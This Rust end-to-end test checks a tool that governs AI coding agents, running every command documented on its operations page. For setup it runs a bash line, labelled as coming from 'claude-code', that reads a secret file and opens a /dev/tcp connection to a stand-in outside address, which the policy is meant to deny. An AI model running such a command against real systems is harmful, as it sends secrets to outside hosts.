//! Every row of the table in docs/operations.md, its command run as it is written there, against real binaries.

use std::collections::BTreeMap;
use std::fs;
use std::process::{Command, Stdio};
use std::time::Duration;

use serde_json::Value;
use tyr_e2e::stack::Stack;
use tyr_e2e::{binary, wait_for};

const PAGE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/operations.md");

/// The commands of the table, by the number of their row.
fn documented() -> BTreeMap<String, String> {
    let page = fs::read_to_string(PAGE).expect("the page");
    let mut commands = BTreeMap::new();
    for line in page.lines().filter(|line| line.starts_with("| M")) {
        let cells: Vec<&str> = line.trim_matches('|').split(" | ").map(str::trim).collect();
        assert_eq!(cells.len(), 4, "{line}");
        let command = cells[2].strip_prefix('`').and_then(|cell| cell.strip_suffix('`')).expect("one command");
        assert!(commands.insert(cells[0].to_owned(), command.to_owned()).is_none(), "{} twice", cells[0]);
    }
    commands
}

#[test]
fn the_table_has_every_row_of_the_documented_page() {
    let rows: Vec<String> = documented().into_keys().collect();
    let mut expected: Vec<String> = (1..=17).map(|number| format!("M{number}")).collect();
    expected.sort();
    assert_eq!(rows, expected);
}

#[test]
fn every_documented_command_shows_what_it_says() {
    let stack = Stack::start(&[("TYR_HEARTBEAT_INTERVAL_S", "1")]).expect("the server starts");
    let secret = stack.folder().join("secret.txt");
    fs::write(&secret, "x").expect("a file");
    stack
        .apply_policy(&format!(
            "apiVersion: tyr.dev/v1\nkind: Policy\nmetadata: {{name: operations}}\nspec:\n  rules:\n    - name: secret\n      \
             action: file_read\n      resource_pattern: {}\n      verdict: deny\n    - name: net\n      action: net_connect\n      \
             cidr_deny: [203.0.113.0/24]\n      verdict: deny\n",
            secret.display()
        ))
        .expect("the policy is accepted");
    let agent = stack.start_agent("watched", "allow_events: all\n").expect("the agent starts");
    let mut work = agent.governed("claude-code", "/bin/bash");
    work.args(["-c", "cat \"$0\"; echo >/dev/tcp/203.0.113.7/443"]).arg(&secret);
    work.stdout(Stdio::null()).stderr(Stdio::null()).status().expect("it runs");
    // The last thing that it does.
    wait_for("the refused connection", Duration::from_secs(30), || {
        let denials = stack.psql("SELECT count(*) FROM events WHERE verdict = 'deny'").ok()?;
        (denials.trim() == "1").then_some(())
    });
    // An agent that went silent, and an old one without events.
    stack
        .psql(
            "INSERT INTO agents (agent_id, name, kernel, arch, client_cert, cert_serial, cert_not_after, enrolled_at, last_seen)
             SELECT gen_random_uuid(), name, '6.12', 'x86_64', '-', name, now(), now() - interval '8 days', last_seen
             FROM (VALUES ('gone', now() - interval '6 minutes'), ('silent', now())) AS a (name, last_seen)",
        )
        .expect("two agents");
    let environment: BTreeMap<&str, &str> = stack.environment().collect();
    let token = fs::read_to_string(stack.folder().join("config/tyr/token")).expect("a token");
    let backup = stack.folder().join("operations.tar").display().to_string();
    let programs = binary("tyr-server").parent().expect("a folder").display().to_string();
    let path = format!("{programs}:{}", std::env::var("PATH").unwrap_or_default());
    let run = |row: &str, command: &str| {
        let mut shell = Command::new("bash");
        shell.args(["-c", command]).env_remove("DATABASE_URL").envs(&environment).env("PATH", &path);
        shell.env("JWT", token.trim()).env("TYR_BACKUP_FILE", &backup).stdin(Stdio::null());
        let output = shell.output().expect("bash starts");
        let said = String::from_utf8_lossy(&output.stdout).into_owned();
        let complaint = String::from_utf8_lossy(&output.stderr).into_owned();
        (output.status.code(), said, format!("{row}: {command}\n{complaint}"))
    };
    // The list of stale agents is fed from memory, which a row made by hand reaches with the next start.
    let commands = documented();
    for (row, command) in &commands {
        let (code, said, told) = run(row, command);
        let has = |word: &str| assert!(said.contains(word), "no `{word}` in\n{said}\n{told}");
        // What is no failure: a stream that is cut after its time, agents that are stale, no journal in a container.
        let fine: &[i32] = match row.as_str() {
            "M4" | "M5" => &[3],
            "M16" => &[28],
            "M13" | "M14" => &[0, 1],
            _ => &[0],
        };
        assert!(code.is_some_and(|code| fine.contains(&code)), "{code:?}\n{said}\n{told}");
        match row.as_str() {
            "M1" => {
                let health: Value = serde_json::from_str(&said).expect("JSON");
                let keys: Vec<_> = health.as_object().expect("an object").keys().collect();
                assert_eq!(keys, ["db", "status", "version"]);
                assert_eq!(health["status"], "ok");
            }
            "M2" => ["watched", "online", "STATUS"].iter().for_each(|word| has(word)),
            "M3" | "M4" => {
                has("gone");
                assert!(!said.contains("watched"), "{said}");
            }
            "M5" => {
                has("silent");
                assert!(!said.contains("watched") && !said.contains("gone"), "{said}");
            }
            "M6" => ["allow", "deny"].iter().for_each(|word| has(word)),
            "M7" => has("203.0.113.7:443"),
            "M8" => has("watched"),
            "M9" => has("not_enforced_here"),
            "M10" => ["events", "index"].iter().for_each(|word| has(word)),
            "M11" => has("DELETE 0"),
            "M12" => assert!(said.matches("events_2").count() >= 8, "today and a week ahead: {said}"),
            "M13" => has("tyr-server "),
            "M14" => {}
            "M15" => [
                "tyr_events_total{",
                "tyr_agents_online",
                "tyr_drift_detected_total",
                "tyr_policy_reload_duration_seconds",
                "tyr_grpc_requests_total{",
            ]
            .iter()
            .for_each(|word| has(word)),
            "M16" => {
                assert!(said.starts_with("retry: ") || said.starts_with(':') || said.starts_with("data: "), "{said}");
            }
            "M17" => has("saved: "),
            other => panic!("nothing is known of {other}"),
        }
    }
    // What the page says of an event that an agent really sent.
    let denied = "tyrctl why \"$(tyrctl events list --verdict deny --limit 1 -o name -q)\"";
    let (code, said, told) = run("below the table", denied);
    assert_eq!(code, Some(0), "{told}");
    for part in
        ["deny: rule `net` of policy version 1 decided", "line            10\n", "ai_type         claude-code\n"]
    {
        assert!(said.contains(part), "no `{part}` in\n{said}\n{told}");
    }
    // The units that the log commands name.
    for unit in ["tyr-server", "tyr-agent"] {
        let unit = format!("{}/../packaging/systemd/{unit}.service", env!("CARGO_MANIFEST_DIR"));
        assert!(fs::metadata(&unit).is_ok(), "{unit}");
    }
    for page in ["backup.md", "troubleshooting.md"] {
        assert!(fs::metadata(format!("{}/../docs/{page}", env!("CARGO_MANIFEST_DIR"))).is_ok(), "{page}");
    }
}
